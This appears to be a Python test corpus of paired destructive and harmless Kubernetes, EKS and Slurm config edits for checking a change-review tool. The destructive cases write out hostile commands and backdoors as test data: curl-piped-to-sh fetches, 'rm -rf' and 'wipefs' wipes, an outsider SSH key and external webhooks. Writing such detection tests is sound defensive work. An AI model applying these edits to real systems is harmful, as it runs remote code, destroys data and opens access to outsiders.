"""Pairs by a fourth author who had not seen the judges: controllers, pods, quotas, functions and scripts."""

from typing import Any

from ops.review.model import Danger, Effect
from tests.synth.corpus.cases import Category, destructive, expect, harmless
from tests.synth.corpus.editing import Edit, after_line

LOWER, LOOSER, WIDER, RUNS, UNKNOWN, PUBLIC = (
    Danger.LOWER_PROTECTION,
    Danger.LOOSER_ISOLATION,
    Danger.WIDER_PERMISSIONS,
    Danger.RUNS_CODE,
    Danger.UNKNOWN,
    Danger.PUBLIC_ENDPOINT,
)
WATCHED = "watched"
REAPER = "kuberay/ray-reaper"
HANDLER = "ClusterKubectlProviderHandler"
ROLLED = (Effect.IN_PLACE, Effect.NEEDS_ROLLOUT, Effect.ENDS_JOBS, Effect.REFUSED, Effect.UNKNOWN)
"""What a change of a RayCluster's pods may be called."""
Body = dict[str, Any]


def _pod(deployment: Body) -> Body:
    """Return the specification of a Deployment's pods."""
    spec: Body = deployment["spec"]["template"]["spec"]
    return spec


def _objects(edit: Edit, old: str, new: str) -> None:
    """Change the only such place in the objects of the observability chart."""

    def change(text: str) -> str:
        assert text.count(old) == 1, f"{text.count(old)} times {old}"
        return text.replace(old, new)

    edit.rewrite("files/objects.yaml", change, holding="JobStalled")


@destructive(
    "the reaper looks at a namespace without Ray",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOWER, UNKNOWN)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        container["args"][container["args"].index("--namespace=ray")] = "--namespace=default"


@destructive(
    "the reaper's program is misspelled",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOWER, RUNS)),
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        assert container["command"].pop() == "controllers.reaper"
        container["command"].append("controllers.raeper")


@destructive(
    "the reaper mounts a ConfigMap that nobody creates",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOWER, UNKNOWN)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [volume] = _pod(deployment)["volumes"]
        volume["configMap"]["name"] = "reaper-code"


@destructive(
    "the reaper runs as a service account without rights",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOWER, WIDER, UNKNOWN)),
    environment="closed",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        _pod(deployment)["serviceAccountName"] = "default"


@destructive(
    "the reaper uses its node's network",
    Category.ISOLATION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOOSER, LOWER), words=("hostNetwork",)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        _pod(deployment)["hostNetwork"] = True


@destructive(
    "a disruption budget selects pods of no cluster",
    Category.PROTECTION,
    expect("PodDisruptionBudget ray/rayml-head", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOWER, UNKNOWN)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "PodDisruptionBudget", "ray/rayml-head") as budget:
        budget["spec"]["selector"]["matchLabels"]["ray.io/cluster"] = "ray-ml"


@destructive(
    "the operator gets no rights from its chart",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOWER, UNKNOWN), words=("rbacEnable",)),
)
def _(edit: Edit) -> None:
    with edit.values("platform", "kuberay-operator") as values:
        values["rbacEnable"] = False


@destructive(
    "the operator watches one namespace, in which Ray is not",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOWER, UNKNOWN)),
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.values("platform", "kuberay-operator") as values:
        values.update(singleNamespaceInstall=True, watchNamespace=["kuberay"])


@destructive(
    "nodes no longer offer EFA to pods",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, Effect.DELETED, dangers=(LOWER, UNKNOWN), words=("efa",)),
)
def _(edit: Edit) -> None:
    with edit.values("eks", "hyperpod-dependencies") as values:
        values["aws-efa-k8s-device-plugin"]["devicePlugin"]["enabled"] = False


@destructive(
    "the network add-on forgets that it enforces NetworkPolicies",
    Category.ISOLATION,
    expect("AWS::EKS::Addon", Effect.IN_PLACE, dangers=(LOOSER, LOWER)),
    environment="prod",
)
def _(edit: Edit) -> None:
    add_ons = edit.templates["eks"]["Resources"].values()
    [add_on] = [each["Properties"] for each in add_ons if each.get("Properties", {}).get("AddonName") == "vpc-cni"]
    del add_on["ConfigurationValues"]


@destructive(
    "another account's layer runs with the function that applies manifests",
    Category.SCRIPTS,
    expect("AWS::Lambda::Function ClusterKubectl", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(RUNS, UNKNOWN, WIDER)),
)
def _(edit: Edit) -> None:
    layers = edit.properties("eks", "AWS::Lambda::Function", HANDLER)["Layers"]
    layers.append("arn:aws:lambda:us-west-2:999988887777:layer:tools:3")


@destructive(
    "Ray's head deletes the shared directory when it stops",
    Category.JOBS,
    expect("RayCluster ray/rayml", *ROLLED, dangers=RUNS, words=("rm",)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        [container] = cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"]
        container["lifecycle"]["preStop"]["exec"]["command"][-1] = "ray stop; rm -rf /fsx/ray"


@destructive(
    "the submitter of jobs runs a script from the Internet",
    Category.SCRIPTS,
    expect("CronJob ray/rayjob-submitter", Effect.IN_PLACE, dangers=(RUNS, LOWER), words=("curl",)),
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "CronJob", "ray/rayjob-submitter") as job:
        [container] = job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]
        container["command"] = ["/bin/sh", "-c", "curl -fsS https://tools.example.com/submit.sh | sh"]


@destructive(
    "whoever opens Grafana is its administrator",
    Category.PERMISSIONS,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(WIDER, LOOSER, LOWER, PUBLIC, UNKNOWN)),
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    _objects(edit, "value: Viewer", "value: Admin")


@destructive(
    "the exporter of GPUs sees the files of all pods",
    Category.ISOLATION,
    expect("", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOOSER, WIDER, UNKNOWN)),
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    _objects(edit, "path: /var/lib/kubelet/pod-resources", "path: /var/lib/kubelet")


def _webhook(edit: Edit) -> None:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    webhook = {
        "name": "images.example.com",
        "admissionReviewVersions": ["v1"],
        "clientConfig": {"service": {"name": "images", "namespace": "kube-system", "path": "/validate"}},
        "failurePolicy": "Fail",
        "rules": [rule],
        "sideEffects": "None",
    }
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
    edit.apply("platform", "Images", kind | {"metadata": {"name": "images"}, "webhooks": [webhook]})


@destructive(
    "pods pass when the check of images is down",
    Category.ISOLATION,
    expect("ValidatingWebhookConfiguration", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOOSER, LOWER, UNKNOWN)),
    prepare=_webhook,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ValidatingWebhookConfiguration", "images") as configuration:
        configuration["webhooks"][0]["failurePolicy"] = "Ignore"


@destructive(
    "the image build may take GPUs",
    Category.ISOLATION,
    expect("ResourceQuota image-build/project", Effect.IN_PLACE, dangers=LOOSER, words=("nvidia.com/gpu",)),
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ResourceQuota", "image-build/project") as quota:
        quota["spec"]["hard"]["requests.nvidia.com/gpu"] = "8"


@destructive(
    "Ray's namespace may have any number of Ingresses",
    Category.ISOLATION,
    expect("ResourceQuota ray/project", Effect.IN_PLACE, dangers=LOOSER, words=("ingresses",)),
    environment="small",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "ResourceQuota", "ray/project") as quota:
        del quota["spec"]["hard"]["count/ingresses.networking.k8s.io"]


@destructive(
    "Ray's head runs as the service account of the supervisors",
    Category.PERMISSIONS,
    expect("RayCluster ray/rayml", *ROLLED, dangers=(WIDER, LOOSER, UNKNOWN)),
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        spec = cluster["spec"]["headGroupSpec"]["template"]["spec"]
        spec.update(serviceAccountName="job-supervisor", automountServiceAccountToken=True)


@destructive(
    "system calls of Ray's workers are not filtered",
    Category.ISOLATION,
    expect("RayCluster ray/rayml", *ROLLED, dangers=LOOSER, words=("seccomp",)),
)
def _(edit: Edit) -> None:
    with edit.object("ray", "RayCluster", "ray/rayml") as cluster:
        [container] = cluster["spec"]["workerGroupSpecs"][0]["template"]["spec"]["containers"]
        container["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


@destructive(
    "Prometheus sends alerts to a host outside",
    Category.NETWORK,
    expect(
        "Service prometheus-system/alertmanager",
        Effect.IN_PLACE,
        Effect.UNKNOWN,
        dangers=(PUBLIC, LOOSER, LOWER, UNKNOWN),
    ),
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Service", "prometheus-system/alertmanager") as service:
        service["spec"] = {"type": "ExternalName", "externalName": "alerts.example.net"}


@destructive(
    "nodes run functions of a script that they fetch",
    Category.SCRIPTS,
    expect("", *Effect, dangers=RUNS),
)
def _(edit: Edit) -> None:
    line = "source <(curl -fsS https://tools.example.com/nodes.sh)"
    edit.rewrite("on_create_main.sh", after_line("set -euo pipefail", line))


@destructive(
    "new nodes erase their local disks",
    Category.SCRIPTS,
    expect("", *Effect, dangers=RUNS),
    environment="slurm",
)
def _(edit: Edit) -> None:
    edit.rewrite("start_slurm.sh", after_line("way=$(node way)", "wipefs --all --force /dev/nvme1n1"))


@harmless(
    "a third reaper runs",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        deployment["spec"]["replicas"] = 3


@harmless(
    "the reaper of production may use more memory",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        container["resources"]["limits"]["memory"] = "512Mi"


@harmless("the reaper's resources are written in other units", Category.PROTECTION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        assert container["resources"]["requests"] == {"cpu": "50m", "memory": "64Mi"}
        container["resources"]["requests"] = {"cpu": "0.05", "memory": "65536Ki"}


@harmless("the reaper's container repeats its pod's seccomp profile", Category.ISOLATION, worst=Effect.IN_PLACE)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        container["securityContext"]["seccompProfile"] = {"type": "RuntimeDefault"}


@harmless("reapers spread over zones where they can", Category.PROTECTION, worst=Effect.IN_PLACE, environment="closed")
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        _pod(deployment)["topologySpreadConstraints"] = [
            {
                "maxSkew": 1,
                "topologyKey": "topology.kubernetes.io/zone",
                "whenUnsatisfiable": "ScheduleAnyway",
                "labelSelector": {"matchLabels": {"app.kubernetes.io/name": "ray-reaper"}},
            }
        ]


@harmless(
    "Alertmanager's pods state the network that is the default",
    Category.ISOLATION,
    worst=Effect.IN_PLACE,
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", "prometheus-system/alertmanager") as deployment:
        _pod(deployment).update(hostNetwork=False, hostPID=False)


@harmless(
    "the operator may use more memory",
    Category.CLUSTERS,
    expect("", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    with edit.values("platform", "kuberay-operator") as values:
        values["resources"]["limits"]["memory"] = "1Gi"


@harmless(
    "the chart's default of the operator's rights is stated",
    Category.PROTECTION,
    worst=Effect.IN_PLACE,
    environment="prod",
)
def _(edit: Edit) -> None:
    with edit.values("platform", "kuberay-operator") as values:
        values["rbacEnable"] = True


@harmless(
    "nobody embeds Grafana in other pages",
    Category.PROTECTION,
    expect("", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    def change(text: str) -> str:
        before, name, after = text.partition("name: GF_SECURITY_ALLOW_EMBEDDING")
        assert name
        return before + name + after.replace('"true"', '"false"', 1)

    edit.rewrite("files/objects.yaml", change, holding="JobStalled")


@harmless(
    "the image build may run two pods",
    Category.ISOLATION,
    expect("ResourceQuota image-build/project", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ResourceQuota", "image-build/project") as quota:
        quota["spec"]["hard"]["pods"] = "2"


@harmless(
    "Ray's namespace may have no Gateways",
    Category.ISOLATION,
    expect("ResourceQuota ray/project", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
    environment="small",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "ResourceQuota", "ray/project") as quota:
        quota["spec"]["hard"]["count/gateways.gateway.networking.k8s.io"] = "0"


@harmless(
    "a function has more memory",
    Category.CLUSTERS,
    expect("AWS::Lambda::Function ProviderOnEvent", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    edit.properties("hyperpod", "AWS::Lambda::Function", "ProviderOnEvent")["MemorySize"] = 512


@harmless("a function has a clearer description", Category.CLUSTERS, worst=Effect.IN_PLACE, environment="slurm")
def _(edit: Edit) -> None:
    function = edit.properties("hyperpod", "AWS::Lambda::Function", "ProviderIsComplete")
    function["Description"] = "Says whether the HyperPod cluster has reached its state"


@harmless("the state machine that waits has a tag", Category.CLUSTERS, worst=Effect.IN_PLACE, environment="prod")
def _(edit: Edit) -> None:
    machine = edit.properties("hyperpod", "AWS::StepFunctions::StateMachine")
    machine["Tags"] = [{"Key": "owner", "Value": "ml-platform"}]


@harmless("a script of new nodes has one more comment", Category.SCRIPTS, worst=Effect.NEEDS_ROLLOUT)
def _(edit: Edit) -> None:
    edit.rewrite("on_create_main.sh", after_line("set -euo pipefail", "# Ask the platform team before you edit this."))


@harmless("new nodes wait longer for Slurm", Category.SCRIPTS, worst=Effect.NEEDS_ROLLOUT, environment="slurm")
def _(edit: Edit) -> None:
    edit.rewrite("start_slurm.sh", lambda text: text.replace("SECONDS_FOR_SLURM:-120", "SECONDS_FOR_SLURM:-300"))


@destructive(
    "a key from outside logs in to all Slurm nodes",
    Category.SCRIPTS,
    expect("", *Effect, dangers=(WIDER, RUNS, UNKNOWN)),
    environment="slurm",
)
def _(edit: Edit) -> None:
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHkq0Z5o1sVt0u8b3mJx2yWc7nRr4gTfLd9eKpQaSvXy guest@example.net"
    edit.rewrite("users.txt", after_line("ubuntu,1000", f"guest,1100,{key}"))


@destructive(
    "all pods are changed by a service outside the cluster",
    Category.ISOLATION,
    expect("MutatingWebhookConfiguration", Effect.CREATED, Effect.UNKNOWN, dangers=(WIDER, LOOSER, RUNS, UNKNOWN)),
    environment="existing-eks",
)
def _(edit: Edit) -> None:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    webhook = {
        "name": "sidecars.example.com",
        "admissionReviewVersions": ["v1"],
        "clientConfig": {"url": "https://sidecars.example.com/mutate"},
        "failurePolicy": "Ignore",
        "rules": [rule],
        "sideEffects": "None",
    }
    kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration"}
    edit.apply("platform", "Sidecars", kind | {"metadata": {"name": "sidecars"}, "webhooks": [webhook]})


@destructive(
    "the function that applies manifests calls AWS through another host",
    Category.UNKNOWN,
    expect(
        "AWS::Lambda::Function ClusterKubectl", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOOSER, RUNS, WIDER, UNKNOWN)
    ),
    environment="existing-vpc",
)
def _(edit: Edit) -> None:
    variables = edit.properties("eks", "AWS::Lambda::Function", HANDLER).setdefault("Environment", {})
    variables.setdefault("Variables", {})["AWS_ENDPOINT_URL"] = "https://aws.example.net"


@destructive(
    "the reaper waits for an hour before it acts",
    Category.PROTECTION,
    expect(f"Deployment {REAPER}", Effect.IN_PLACE, dangers=(LOWER, UNKNOWN)),
    environment="existing-vpc",
)
def _(edit: Edit) -> None:
    with edit.object("ray", "Deployment", REAPER) as deployment:
        [container] = _pod(deployment)["containers"]
        container["args"][container["args"].index("--unready-seconds=30")] = "--unready-seconds=3600"


@destructive(
    "the exporter of GPUs is privileged",
    Category.ISOLATION,
    expect("", Effect.IN_PLACE, dangers=LOOSER, words=("privileged",)),
    environment=WATCHED,
)
def _(edit: Edit) -> None:
    def change(text: str) -> str:
        before, name, after = text.partition("name: dcgm-exporter\n          image:")
        assert name
        return before + name + after.replace("allowPrivilegeEscalation: false", "privileged: true", 1)

    edit.rewrite("files/objects.yaml", change, holding="JobStalled")


@harmless("the users' file of Slurm explains itself", Category.SCRIPTS, worst=Effect.NEEDS_ROLLOUT, environment="slurm")
def _(edit: Edit) -> None:
    edit.rewrite("users.txt", after_line("# system. Removing", "# Ask the platform team for an account."))


@harmless(
    "CoreDNS has three replicas",
    Category.CLUSTERS,
    expect("AWS::EKS::Addon", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
)
def _(edit: Edit) -> None:
    add_ons = edit.templates["eks"]["Resources"].values()
    [add_on] = [each["Properties"] for each in add_ons if each.get("Properties", {}).get("AddonName") == "coredns"]
    add_on["ConfigurationValues"] = '{"replicaCount": 3}'


@harmless(
    "the framework of the functions logs more", Category.CLUSTERS, worst=Effect.IN_PLACE, environment="existing-eks"
)
def _(edit: Edit) -> None:
    function = edit.properties("hyperpod", "AWS::Lambda::Function", "ProviderFrameworkframeworkonEvent")
    function["LoggingConfig"]["ApplicationLogLevel"] = "INFO"


def _audited(edit: Edit) -> None:
    group = "admissionregistration.k8s.io/v1"
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    policy = {
        "failurePolicy": "Fail",
        "matchConstraints": {"resourceRules": [rule]},
        "validations": [{"expression": "object.spec.containers.all(c, !c.image.endsWith(':latest'))"}],
    }
    binding = {"policyName": "no-latest", "validationActions": ["Audit"]}
    edit.apply(
        "platform",
        "NoLatest",
        {
            "apiVersion": group,
            "kind": "ValidatingAdmissionPolicy",
            "metadata": {"name": "no-latest"},
            "spec": policy,
        },
        {
            "apiVersion": group,
            "kind": "ValidatingAdmissionPolicyBinding",
            "metadata": {"name": "no-latest"},
            "spec": binding,
        },
    )


@harmless(
    "pods with a moving tag are refused, not only noted",
    Category.ISOLATION,
    expect("ValidatingAdmissionPolicyBinding", Effect.IN_PLACE),
    worst=Effect.IN_PLACE,
    prepare=_audited,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ValidatingAdmissionPolicyBinding", "no-latest") as binding:
        binding["spec"]["validationActions"] = ["Deny", "Audit"]


def _denied(edit: Edit) -> None:
    _audited(edit)
    with edit.object("platform", "ValidatingAdmissionPolicyBinding", "no-latest") as binding:
        binding["spec"]["validationActions"] = ["Deny"]


@destructive(
    "a policy of admission does not hold in Ray's namespace",
    Category.ISOLATION,
    expect("ValidatingAdmissionPolicyBinding", Effect.IN_PLACE, Effect.UNKNOWN, dangers=(LOOSER, LOWER, UNKNOWN)),
    prepare=_denied,
)
def _(edit: Edit) -> None:
    with edit.object("platform", "ValidatingAdmissionPolicyBinding", "no-latest") as binding:
        expression = {"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["ray"]}
        binding["spec"]["matchResources"] = {"namespaceSelector": {"matchExpressions": [expression]}}


@harmless("a namespace has a label of the team", Category.ISOLATION, worst=Effect.IN_PLACE, environment="existing-eks")
def _(edit: Edit) -> None:
    with edit.object("ray", "Namespace", "ray") as namespace:
        namespace["metadata"]["labels"]["team"] = "ml-platform"
